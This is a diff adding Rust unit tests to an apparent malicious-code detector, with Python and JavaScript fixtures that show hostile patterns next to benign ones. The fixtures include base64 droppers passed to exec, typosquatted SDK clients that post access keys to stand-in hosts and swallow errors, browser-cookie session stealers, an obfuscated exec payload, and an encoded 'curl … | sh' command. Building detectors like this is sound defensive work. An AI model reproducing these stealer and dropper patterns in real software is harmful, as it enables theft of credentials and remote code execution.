@@ -1068,3 +1068,117 @@ fn a_base64_data_url_import_runs_the_decoded_module() {
     let text = "const m = await import('data:text/javascript;base64,' + btoa(source));\nconst j = await import(`data:application/json,${JSON.stringify(o)}`, { with: { type: 'json' } });\n";
     assert!(js(text).is_empty(), "{:?}", js(text));
 }
+
+#[test]
+fn a_large_python_module_whose_bulk_is_one_literal_keeps_its_decoded_run() {
+    // A dropper that is one 170 KB base64 literal, decoded and run in the two lines after it: the
+    // literal makes the module large, and the run must be found as in a small one.
+    let blob = "eCA9IDEK".repeat(22_000);
+    let small = "import base64\nnudels = '''\neCA9IDEK\n'''\ncake = base64.b64decode(nudels).decode('utf-8')\nexec(cake)\n";
+    let large = format!("import base64\nnudels = '''\n{blob}\n'''\ncake = base64.b64decode(nudels).decode('utf-8')\nexec(cake)\n");
+    assert!(large.len() > regions_min(), "{}", large.len());
+    let kinds = |found: Vec<(FlowKind, String, String, Option<String>)>| {
+        found.into_iter().map(|f| f.0).collect::<Vec<_>>()
+    };
+    assert_eq!(kinds(py(small)), vec![FlowKind::DecodedToExec]);
+    assert_eq!(kinds(py(&large)), vec![FlowKind::DecodedToExec]);
+    let js_large = format!("const blob = '{blob}';\neval(atob(blob));\n");
+    assert_eq!(
+        kinds(js("const blob = 'eCA9IDEK';\neval(atob(blob));\n")),
+        vec![FlowKind::DecodedToExec]
+    );
+    assert_eq!(kinds(js(&js_large)), vec![FlowKind::DecodedToExec]);
+    // The literal far above the lines that run it, with unrelated code between.
+    let far = format!(
+        "import base64\nnudels = 'eCA9IDEK'\n{}\ncake = base64.b64decode(nudels)\nexec(cake)\n",
+        "def f(a):\n    return [a, a * 2]\n".repeat(6_000)
+    );
+    assert!(far.len() > regions_min(), "{}", far.len());
+    assert_eq!(kinds(py(&far)), vec![FlowKind::DecodedToExec]);
+}
+
+#[test]
+fn a_handed_secret_fired_off_with_its_failure_hidden_is_carried_off() {
+    // A typosquatted SDK client: the key pair the user configures is posted, the answer thrown away
+    // and any failure swallowed, so the client works as before.
+    let stealer = "import requests\nclass Credentials:\n    def __init__(self, access_key_id='', access_key_secret=''):\n        self.access_key_id = access_key_id\n        try:\n            data = {'ak': access_key_id, 'sk': access_key_secret}\n            requests.post(url='https://sdk-metrics.example.invalid/c', json=data)\n        except:\n            pass\n";
+    let found = py(stealer);
+    assert_eq!(
+        found.iter().map(|f| f.0).collect::<Vec<_>>(),
+        vec![FlowKind::EnvironmentToNetwork],
+        "{found:?}"
+    );
+    let js_stealer = "const https = require('https');\nfunction configure(apiKey) {\n  try {\n    https.request({ host: 'sdk-metrics.example.invalid', method: 'POST' }).end(JSON.stringify({ apiKey }));\n  } catch (e) {}\n}\nmodule.exports = configure;\n";
+    assert_eq!(
+        js(js_stealer).iter().map(|f| f.0).collect::<Vec<_>>(),
+        vec![FlowKind::EnvironmentToNetwork]
+    );
+    let built = "import os\nfrom urllib import request\ndef get_client(access_key, secret_key, region):\n    endpoint = os.environ.get('PKG_URL', 'https://c.example.invalid/k')\n    body = {'day': access_key, 'month': secret_key}\n    req = request.Request(url=endpoint, method='POST', data=body)\n    try:\n        request.urlopen(req)\n    except Exception:\n        pass\n";
+    assert_eq!(
+        py(built).iter().map(|f| f.0).collect::<Vec<_>>(),
+        vec![FlowKind::EnvironmentToNetwork]
+    );
+    let field = "import requests\nclass Client:\n    def __init__(self, config):\n        try:\n            data = {'ak': config.access_key_id, 'secret': config.access_key_secret}\n            requests.post(url='https://c.example.invalid/k', json=data)\n        except:\n            pass\n";
+    assert_eq!(
+        py(field).iter().map(|f| f.0).collect::<Vec<_>>(),
+        vec![FlowKind::EnvironmentToNetwork]
+    );
+    // The client calling its own service reads the answer, or lets the failure reach the caller.
+    let client = "import requests\nclass Client:\n    def __init__(self, api_key=''):\n        self.api_key = api_key\n    def whoami(self, api_key):\n        try:\n            reply = requests.post('https://api.vendor.example/v1/me', json={'key': api_key})\n        except Exception:\n            pass\n        requests.post('https://api.vendor.example/v1/ping', json={'key': api_key})\n";
+    assert!(py(client).is_empty(), "{:?}", py(client));
+    let logged = "import requests, logging\ndef report(secret_key):\n    try:\n        requests.post('https://api.vendor.example/v1/usage', json={'k': secret_key})\n    except Exception as e:\n        logging.warning('usage report failed: %s', e)\n";
+    assert!(py(logged).is_empty(), "{:?}", py(logged));
+}
+
+#[test]
+fn browser_cookies_put_in_a_message_are_stolen_and_a_jar_for_the_site_is_not() {
+    let stealer = "import browser_cookie3, requests\nHOOK = 'https://collector.example.invalid/h'\ndef grab():\n    for cookie in browser_cookie3.chrome(domain_name='games.example'):\n        if cookie.name == 'SESSION':\n            return cookie.value\nsession = grab()\nrequests.post(HOOK, data={'content': f'session: {session}'})\n";
+    let found = py(stealer);
+    assert_eq!(
+        found.iter().map(|f| f.0).collect::<Vec<_>>(),
+        vec![FlowKind::CredentialToNetwork],
+        "{found:?}"
+    );
+    // A downloader that borrows the user's login for the site it downloads from.
+    let jar = "import browser_cookie3, requests\ndef fetch(url):\n    cj = browser_cookie3.firefox(domain_name='video.example')\n    return requests.get(url, cookies=cj, timeout=30).content\n";
+    assert!(py(jar).is_empty(), "{:?}", py(jar));
+}
+
+#[test]
+fn a_constant_mapped_character_by_character_and_run_is_a_decoded_payload() {
+    let cipher = "import string\nk = string.ascii_letters\nr = k[::-1]\nexec(''.join([r[k.index(c)] if c in r else c for c in 'RNKLIG LH; LH.HBHGVN(\\'VXSL SVOOL\\')']))\n";
+    let found = py(cipher);
+    assert_eq!(
+        found.iter().map(|f| f.0).collect::<Vec<_>>(),
+        vec![FlowKind::DecodedToExec],
+        "{found:?}"
+    );
+    // Copying the characters decodes nothing; a comprehension over runtime input is not a constant.
+    let copy = "exec(''.join([c for c in 'print(\\'hello from a generated module\\')']))\n";
+    assert!(py(copy).is_empty(), "{:?}", py(copy));
+    let runtime = "import sys\nsrc = sys.argv[1]\nexec(''.join([c.lower() for c in src]))\n";
+    assert!(py(runtime).is_empty(), "{:?}", py(runtime));
+}
+
+#[test]
+fn a_library_function_held_in_a_name_or_looped_over_keeps_its_meaning() {
+    let held = "import browser_cookie3, requests\ngrab = browser_cookie3.chrome\nvalue = grab(domain_name='x.example')\nrequests.post('https://relay.example.invalid/m', data={'c': str(value)})\n";
+    assert_eq!(
+        py(held).iter().map(|f| f.0).collect::<Vec<_>>(),
+        vec![FlowKind::CredentialToNetwork]
+    );
+    let looped = "import browser_cookie3, requests\nBROWSERS = (browser_cookie3.chrome, browser_cookie3.firefox)\ndef find():\n    for browser in BROWSERS:\n        for c in browser(domain_name='x.example'):\n            return c.value\nrequests.post('https://relay.example.invalid/m', json={'s': find()})\n";
+    assert_eq!(
+        py(looped).iter().map(|f| f.0).collect::<Vec<_>>(),
+        vec![FlowKind::CredentialToNetwork]
+    );
+    let runner = "import base64, subprocess\nfor run in (subprocess.call, subprocess.Popen):\n    run(base64.b64decode('Y3VybCBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkIHwgc2g=').decode(), shell=True)\n";
+    assert_eq!(
+        py(runner).iter().map(|f| f.0).collect::<Vec<_>>(),
+        vec![FlowKind::DecodedToExec]
+    );
+    // A tuple of names that are not all library functions binds nothing.
+    let mixed =
+        "import requests\nfor step in (requests.get, print):\n    step('https://docs.example/x')\n";
+    assert!(py(mixed).is_empty(), "{:?}", py(mixed));
+}
